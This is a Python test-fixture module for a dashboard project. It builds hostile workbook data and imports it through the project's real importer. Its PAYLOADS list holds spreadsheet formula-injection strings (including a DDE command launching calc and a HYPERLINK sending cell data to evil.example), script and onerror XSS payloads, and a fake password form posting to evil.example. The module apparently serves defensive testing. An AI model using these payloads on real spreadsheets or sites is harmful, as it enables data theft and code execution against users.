"""Hostile text for tests (no tests in here): payloads an attacker would type into a spreadsheet cell, and a
warehouse whose every free-text column holds them, imported through the real importer.

    from hostile import PAYLOADS, hostile_tables, import_hostile
"""
from __future__ import annotations

from pathlib import Path

import polars as pl

PAYLOADS = [
    '=HYPERLINK("http://evil.example/x?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '<script>window.__pwned=1</script>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<img src=x onerror="window.__pwned=1">',
    '<style>*{display:none}</style>',
    '<form action="http://evil.example/"><input type="password" name="p"></form>',
    "![x](http://evil.example/p.png)",
    "[点我](http://evil.example/)",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_tables(tables: dict[str, pl.DataFrame]) -> dict[str, pl.DataFrame]:
    """Every free-text (type "str") column of the contract replaced by a payload (cycling, numbered so keys
    stay unique); ids, codes, enumerations, numbers and dates are kept, so the upload is valid."""
    from dashboard import contract
    out = dict(tables)
    for name, t in contract.TABLES.items():
        cols = [c.name for c in t.cols if c.type == "str"]
        if not cols or name not in tables:
            continue
        df = tables[name]
        exprs = []
        for j, c in enumerate(cols):
            hostile = pl.Series([f"{PAYLOADS[(i + j) % len(PAYLOADS)]} #{i}" for i in range(df.height)],
                                dtype=pl.String)
            exprs.append(pl.when(pl.col(c).is_not_null()).then(pl.lit(hostile)).otherwise(pl.col(c)).alias(c))
        out[name] = df.with_columns(exprs)
    return out


def import_hostile(tables: dict[str, pl.DataFrame], db: Path, workdir: Path) -> Path:
    """Write the hostile tables as a full workbook (the template's shape) and import it through the real
    importer (replace) into `db` (a demo warehouse file to start from). Returns `db`."""
    from dashboard.dataio import publish as pub
    from dashboard.dataio import template as T
    xlsx = T.write_export(workdir / "恶意数据.xlsx", hostile_tables(tables))
    res = pub.import_files([xlsx], db, mode="replace")
    assert res.published, res.plan.summary() + "\n" + "\n".join(i.message for i in res.plan.issues[:10])
    return db


def hostile_copy(source: Path, tables: dict[str, pl.DataFrame], workdir: Path) -> Path:
    """A copy of warehouse `source` in `workdir` with the hostile tables imported (see import_hostile)."""
    import shutil
    db = Path(workdir) / "warehouse.duckdb"
    shutil.copyfile(source, db)
    return import_hostile(tables, db, Path(workdir))
